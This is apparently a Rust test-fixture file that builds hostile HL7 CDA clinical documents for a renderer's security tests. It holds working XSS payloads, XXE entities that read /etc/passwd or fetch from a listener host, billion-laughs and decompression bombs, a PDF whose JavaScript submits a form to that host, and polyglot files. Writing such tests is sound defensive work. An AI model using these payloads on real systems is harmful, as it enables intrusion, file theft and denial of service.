//! Documents that try to run something, to fetch something, to hide words or to use the machine up (spec ccda-render.md §7),
//! and what must be left of each: its words, or a refusal.
//!
//! Not for: the browser that they are shown in (`chrome`).

/// What is made of an attack.
#[derive(Clone, Copy, Debug)]
pub enum Outcome {
    /// The page shows these words.
    Shown(&'static [&'static str]),
    /// The document is kept and gives no page.
    Refused,
    /// It cannot even be read, or is not known for a CDA document, and is kept as it is.
    Unreadable,
}

use Outcome::{Refused, Shown, Unreadable};

/// An attack.
pub struct Attack {
    pub name: &'static str,
    pub document: Vec<u8>,
    pub outcome: Outcome,
}

/// The head of a document; `NAME` is its title and number.
const HEAD: &str = r#"<id root="2.16.840.1.113883.19.5" extension="NAME"/><code code="34133-9" codeSystem="2.16.840.1.113883.6.1"/>
<title>NAME</title><effectiveTime value="20240315"/><confidentialityCode code="N"/><languageCode code="en-US"/>
<recordTarget><patientRole><id root="2.16.840.1.113883.19" extension="p1"/><patient><name><given>Ada</given><family>Quill</family></name>
<birthTime value="19500102"/></patient></patientRole></recordTarget>"#;

const ROOT: &str = r#"<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:sdtc="urn:hl7-org:sdtc""#;

/// A document with this body.
pub fn with_body(name: &str, body: &str) -> String {
    format!("{ROOT}>{}<component>{body}</component></ClinicalDocument>", HEAD.replace("NAME", name))
}

/// A document with one section of this narrative, and entries behind it.
pub fn with_narrative(name: &str, narrative: &str, entries: &str) -> String {
    let section = format!("<code code=\"10164-2\"/><title>History</title><text>{narrative}</text>{entries}");
    with_body(name, &format!("<structuredBody><component><section>{section}</section></component></structuredBody>"))
}

/// Narrative that would act, and the words that must stay. `EVIL` is the address of a listener.
const NARRATIVES: &[(&str, &str, &[&str])] = &[
    (
        "handlers-of-tables",
        r#"<table onmouseover="alert(1)" onload="alert(1)" style="position:fixed;inset:0;background:url(EVIL/s)" width="1" border="9999999"><caption onclick="alert(1)">Doses</caption><tbody onfocus="alert(1)" tabindex="0"><tr onclick="alert(1)"><td style="display:none" background="EVIL/t">Aspirin 81 mg</td></tr></tbody></table>"#,
        &["Doses", "Aspirin 81 mg"],
    ),
    ("link-javascript", r#"<linkHtml href="javascript:alert(1)">the report</linkHtml>"#, &["the report", "javascript:alert(1)"]),
    ("link-javascript-cased", r#"<linkHtml href="JaVaScRiPt:alert(1)">the report</linkHtml>"#, &["the report"]),
    (
        "link-javascript-split",
        r#"<linkHtml href="java&#x0A;script:alert(1)">one</linkHtml> <linkHtml href="java&#9;script:alert(1)">two</linkHtml> <linkHtml href=" &#x0D;javascript&#58;alert(1)">three</linkHtml>"#,
        &["one", "two", "three"],
    ),
    ("link-data", r#"<linkHtml href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">the scan</linkHtml>"#, &["the scan"]),
    (
        "link-vbscript-file-blob",
        r#"<linkHtml href="vbscript:msgbox(1)">a</linkHtml> <linkHtml href="file:///etc/passwd">b</linkHtml> <linkHtml href="blob:EVIL/x">c</linkHtml> <linkHtml href="view-source:EVIL">d</linkHtml>"#,
        &["vbscript:msgbox(1)", "file:///etc/passwd"],
    ),
    (
        "link-relative",
        r#"<linkHtml href="//127.0.0.1:1/x">a</linkHtml> <linkHtml href="../../signout">sign out</linkHtml> <linkHtml href="/account/leave">leave</linkHtml> <linkHtml href="?view=clinical">view</linkHtml>"#,
        &["sign out", "leave", "view"],
    ),
    (
        "ids-of-the-page",
        r##"<content ID="__proto__">proto</content> <content ID="main">main</content> <content ID="patient">patient</content> <content ID="section-1">section</content> <content ID="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">quoted</content> <linkHtml name="documentElement" href="#main">named</linkHtml>"##,
        &["proto", "main", "patient", "section", "quoted", "named"],
    ),
    (
        "classes-of-the-page",
        r#"<content styleCode="skip vh defs bar glass-open hidden fixed">still here</content> <content class="vh" style="display:none">and here</content> <paragraph styleCode="position:fixed;top:0">and there</paragraph>"#,
        &["still here", "and here", "and there"],
    ),
    (
        "scripts-as-text",
        r#"<paragraph><![CDATA[<script>alert(1)</script><img src=EVIL/i onerror=alert(1)>]]></paragraph><paragraph>&lt;script&gt;alert(2)&lt;/script&gt;</paragraph>"#,
        &["<script>alert(1)</script>", "<script>alert(2)</script>"],
    ),
    (
        "html-script",
        r#"<script>alert(1)</script><script src="EVIL/x.js"/><style>* { display: none } @import url(EVIL/y.css);</style><paragraph>after</paragraph>"#,
        &["alert(1)", "after"],
    ),
    (
        "html-images",
        r#"<img src="EVIL/i.png" onerror="alert(1)" alt="a picture of a rash"/><picture><source srcset="EVIL/s.png"/><img src="x" onerror="alert(1)"/></picture><video src="EVIL/v" autoplay="autoplay" onloadstart="alert(1)">video words</video><audio src="EVIL/a" autoplay="1"/>"#,
        &["video words"],
    ),
    (
        "html-frames",
        r#"<iframe src="EVIL/f" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">frame words</iframe><object data="EVIL/o">object words</object><embed src="EVIL/e"/><frameset onload="alert(1)">frameset words</frameset>"#,
        &["frame words", "object words", "frameset words"],
    ),
    (
        "html-forms",
        r#"<form action="EVIL/p" method="post"><input name="csrf" value="x" autofocus="autofocus" onfocus="alert(1)"/><button formaction="javascript:alert(1)">Sign out</button><select autofocus="1" onfocus="alert(1)"><option>option words</option></select></form>"#,
        &["Sign out", "option words"],
    ),
    (
        "html-head",
        r#"<meta http-equiv="refresh" content="0;url=EVIL/m"/><base href="EVIL/"/><link rel="stylesheet" href="EVIL/c.css"/><link rel="prefetch" href="EVIL/p"/><title>inner title</title><paragraph>after</paragraph>"#,
        &["after"],
    ),
    (
        "html-svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="EVIL/i"/><animate onbegin="alert(1)"/><foreignObject><paragraph xmlns="urn:hl7-org:v3">inside</paragraph></foreignObject></svg><math href="javascript:alert(1)">math words</math>"#,
        &["inside", "math words"],
    ),
    (
        "html-breaks-out",
        r#"<paragraph></paragraph><div></div><details open="open" ontoggle="alert(1)">details words</details><dialog open="open">dialog words</dialog><plaintext>plain words</plaintext><template>template words</template><noscript>noscript words</noscript><textarea>area words</textarea>"#,
        &["details words", "dialog words", "plain words", "template words", "noscript words", "area words"],
    ),
    (
        "includes",
        r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="EVIL/x.xml" parse="text"><xi:fallback>fallback words</xi:fallback></xi:include><paragraph xsi:schemaLocation="urn:hl7-org:v3 EVIL/s.xsd" xlink:href="EVIL/l" xmlns:xlink="http://www.w3.org/1999/xlink">schema words</paragraph>"#,
        &["fallback words", "schema words"],
    ),
    (
        "directions",
        "<paragraph>Dose \u{202e}gm 01\u{202c} and \u{2066}5\u{2069} mg</paragraph>",
        &["[U+202E]", "gm 01", "[U+2066]"],
    ),
    ("invisible", "<paragraph>Doe\u{200b}John, Pаul (Cyrillic а)</paragraph>", &["Pаul"]),
    (
        "spans",
        r#"<table><tbody><tr><td colspan="1000000" rowspan="1000000">wide</td><td colspan="-1" rowspan="0">narrow</td><td colspan="javascript:alert(1)">word</td></tr></tbody></table>"#,
        &["wide", "narrow", "word"],
    ),
    (
        "footnotes",
        r#"<paragraph>See<footnoteRef IDREF="&quot;onclick=alert(1)"/><footnote ID="f1" onclick="alert(1)">note <linkHtml href="javascript:alert(1)">words</linkHtml></footnote></paragraph><renderMultiMedia referencedObject="javascript:alert(1) EVIL/i.png"/>"#,
        &["See", "note", "words"],
    ),
    (
        "titles",
        r#"<paragraph>before</paragraph><title>x</title><caption onclick="alert(1)">loose caption</caption><linkHtml href="https://example.org/" title="&quot; onmouseover=&quot;alert(1)">titled</linkHtml>"#,
        &["before", "loose caption", "titled"],
    ),
];

/// Bodies that are files.
const FILES: &[(&str, &str, &[&str])] = &[
    (
        "body-javascript",
        r#"<text mediaType="text/html"><reference value="javascript:alert(1)"/></text>"#,
        &["not archived", "javascript:alert(1)"],
    ),
    ("body-elsewhere", r#"<text mediaType="application/pdf"><reference value="EVIL/body.pdf"/></text>"#, &["not archived"]),
    ("body-upwards", r#"<text mediaType="text/plain"><reference value="../../../../etc/passwd"/></text>"#, &["not archived"]),
    (
        "body-html",
        r#"<text mediaType="text/html" representation="TXT"><![CDATA[<html><head><meta http-equiv="refresh" content="0;url=EVIL/r"><base href="EVIL/"></head><body onload=alert(1)><script>alert(1)</script><img src=EVIL/i onerror=alert(1)><p style="background:url(EVIL/b)" onclick="alert(1)">Seen today</p><a href="javascript:alert(1)">more</a><form action=EVIL/f><button>Send</button></form></body></html>]]></text>"#,
        &["Seen today", "more"],
    ),
    (
        "body-text",
        r#"<text mediaType="text/plain"><![CDATA[<script>alert(1)</script> plain words]]></text>"#,
        &["<script>alert(1)</script> plain words"],
    ),
    ("body-empty", r#"<text mediaType="application/pdf" representation="B64"></text>"#, &["empty"]),
    ("body-not-base64", r#"<text mediaType="application/pdf" representation="B64">!!!!</text>"#, &["damaged"]),
];

/// Files that would act when opened as what they say they are: media type, bytes, words of the page.
fn binaries(evil: &str) -> Vec<(&'static str, &'static str, Vec<u8>, &'static [&'static str])> {
    let svg = format!(
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><image href='{evil}/i'/></svg>"
    );
    let mut polyglot = b"GIF89a/*".to_vec();
    polyglot.extend_from_slice(b"\x01\x00\x01\x00*/=1;alert(1);<script>alert(1)</script>");
    let html = format!("<!DOCTYPE html><body onload=alert(1)><script src='{evil}/x.js'></script><p>Words of HTML</p>");
    let rtf = r#"{\rtf1{\object\objdata 0105}{\field{\*\fldinst HYPERLINK "javascript:alert(1)"}{\fldrslt Words of RTF}}}"#;
    vec![
        ("body-pdf-with-script", "application/pdf", scripted_pdf(evil), &["application/pdf", "SHA-256"]),
        ("body-svg", "image/svg+xml", svg.into_bytes(), &["SHA-256"]),
        ("body-polyglot", "image/gif", polyglot, &["SHA-256"]),
        ("body-html-as-png", "image/png", html.into_bytes(), &["Words of HTML"]),
        ("body-rtf", "text/rtf", rtf.as_bytes().to_vec(), &["Words of RTF"]),
        ("body-zip", "application/zip", b"PK\x03\x04\x14\x00\x00\x00".to_vec(), &["SHA-256"]),
    ]
}

/// A page with an action that runs when it is opened, and one that submits.
fn scripted_pdf(evil: &str) -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm('EVIL/p');) >> >>"
            .replace("EVIL", evil),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".into(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI ({evil}/u) >> >> >>"),
    ];
    let mut out = String::from("%PDF-1.4\n");
    let mut places = Vec::new();
    for (number, object) in objects.iter().enumerate() {
        places.push(out.len());
        out.push_str(&format!("{} 0 obj\n{object}\nendobj\n", number + 1));
    }
    let table = out.len();
    out.push_str("xref\n0 4\n0000000000 65535 f \n");
    places.iter().for_each(|place| out.push_str(&format!("{place:010} 00000 n \n")));
    out.push_str(&format!("trailer << /Size 4 /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n"));
    out.into_bytes()
}

/// Documents that are attacks as a whole.
fn wholes(evil: &str) -> Vec<Attack> {
    let plain = |name: &str| with_narrative(name, "<paragraph>Seen and well</paragraph>", "");
    let shown = |name, document: String, words| Attack { name, document: document.into_bytes(), outcome: Shown(words) };
    let refused = |name, subset: &str, narrative: &str| {
        let declared = format!("<!DOCTYPE ClinicalDocument [{subset}]>{}", with_narrative(name, narrative, ""));
        Attack { name, document: declared.into_bytes(), outcome: Refused }
    };
    let unknown = |name, subset: &str, narrative: &str| Attack { outcome: Unreadable, ..refused(name, subset, narrative) };
    let unreadable = |name, document: String| Attack { name, document: document.into_bytes(), outcome: Unreadable };
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect::<String>();
    let long = "A".repeat(100_000);
    let attributes: String = (0..1_000_000).map(|n| format!(" a{n}=''")).collect();
    let mut overlong = plain("overlong-utf8").into_bytes();
    let at = overlong.windows(4).position(|w| w == b"Seen").expect("the words");
    overlong.splice(at..at, *b"\xc0\xbcscript\xc0\xbe ");
    vec![
        shown("stylesheet-instruction", format!("<?xml-stylesheet type=\"text/xsl\" href=\"{evil}/cda.xsl\"?>{}", plain("stylesheet-instruction")), &["Seen and well"]),
        shown("external-subset", format!("<!DOCTYPE ClinicalDocument SYSTEM \"{evil}/d.dtd\">{}", plain("external-subset")), &["Seen and well"]),
        shown("utf7", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{}", with_narrative("utf7", "<paragraph>+ADw-script+AD4-alert(1) Seen and well</paragraph>", "")), &["+ADw-script+AD4-", "Seen and well"]),
        Attack { name: "overlong-utf8", document: overlong, outcome: Shown(&["Seen and well"]) },
        shown("unknown-entity", with_narrative("unknown-entity", "<paragraph>Dose&nbsp;5 &micro;g &#0; &#xD800; Seen and well</paragraph>", ""), &["Dose", "Seen and well"]),
        shown("header", with_body("header", "<structuredBody><component><section><text>Seen and well</text></section></component></structuredBody>").replace("<given>Ada</given>", "<given>&lt;img src=x onerror=alert(1)&gt;</given>").replace("</patientRole>", "<telecom value=\"javascript:alert(1)\"/><addr><city>&lt;script&gt;alert(1)&lt;/script&gt;</city></addr></patientRole>"), &["<img src=x onerror=alert(1)>", "Seen and well"]),
        shown("picture-elsewhere", with_narrative("picture-elsewhere", "<renderMultiMedia referencedObject=\"m1 m2\"/>", &format!("<entry><observationMedia classCode=\"OBS\" moodCode=\"EVN\" ID=\"m1\"><value mediaType=\"image/gif\"><reference value=\"{evil}/track.gif\"/></value></observationMedia></entry><entry><observationMedia classCode=\"OBS\" moodCode=\"EVN\" ID=\"m2\"><value mediaType=\"image/svg+xml\">&lt;svg onload='alert(1)'/&gt;</value></observationMedia></entry>")), &["not archived"]),
        shown("bomb", with_body("bomb", &format!("<nonXMLBody><text mediaType=\"text/plain\" representation=\"B64\" compression=\"ZL\">{}</text></nonXMLBody>", bomb())), &["larger than is shown"]),
        refused("entity-file", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<paragraph>&x;</paragraph>"),
        refused("entity-http", &format!("<!ENTITY x SYSTEM \"{evil}/x\">"), "<paragraph>&x;</paragraph>"),
        refused("entity-parameter", &format!("<!ENTITY % p SYSTEM \"{evil}/p.dtd\"> %p;"), "<paragraph>a</paragraph>"),
        refused("billion-laughs", &format!("<!ENTITY l0 \"lol\">{laughs}"), "<paragraph>&l9;</paragraph>"),
        // Its head is longer than what a file is known by.
        unknown("quadratic", &format!("<!ENTITY a \"{long}\">"), &format!("<paragraph>{}</paragraph>", "&a;".repeat(10_000))),
        unreadable("deep", with_narrative("deep", &format!("{}x{}", "<content>".repeat(100_000), "</content>".repeat(100_000)), "")),
        unreadable("deep-tables", with_narrative("deep-tables", &format!("{}x{}", "<table><tr><td>".repeat(500), "</td></tr></table>".repeat(500)), "")),
        // More attributes than are read are left out; the words stay.
        shown("attributes", with_narrative("attributes", &format!("<paragraph{attributes}>Seen and well</paragraph>"), ""), &["Seen and well"]),
    ]
}

/// 64 MiB of nothing in a few KiB, as base64.
fn bomb() -> String {
    use base64::Engine as _;
    use std::io::Write as _;
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        encoder.write_all(&vec![b' '; 1 << 20]).expect("it fits in memory");
    }
    base64::engine::general_purpose::STANDARD.encode(encoder.finish().expect("it ends"))
}

/// All of them. Whoever listens at `evil` must hear nothing.
pub fn all(evil: &str) -> Vec<Attack> {
    use base64::Engine as _;
    let mut all = wholes(evil);
    for (name, narrative, words) in NARRATIVES {
        let document = with_narrative(name, &narrative.replace("EVIL", evil), "").into_bytes();
        all.push(Attack { name, document, outcome: Shown(words) });
    }
    for (name, text, words) in FILES {
        let document = with_body(name, &format!("<nonXMLBody>{}</nonXMLBody>", text.replace("EVIL", evil))).into_bytes();
        all.push(Attack { name, document, outcome: Shown(words) });
    }
    for (name, media_type, bytes, words) in binaries(evil) {
        let base64 = base64::engine::general_purpose::STANDARD.encode(bytes);
        let text = format!("<nonXMLBody><text mediaType=\"{media_type}\" representation=\"B64\">{base64}</text></nonXMLBody>");
        all.push(Attack { name, document: with_body(name, &text).into_bytes(), outcome: Shown(words) });
    }
    all
}
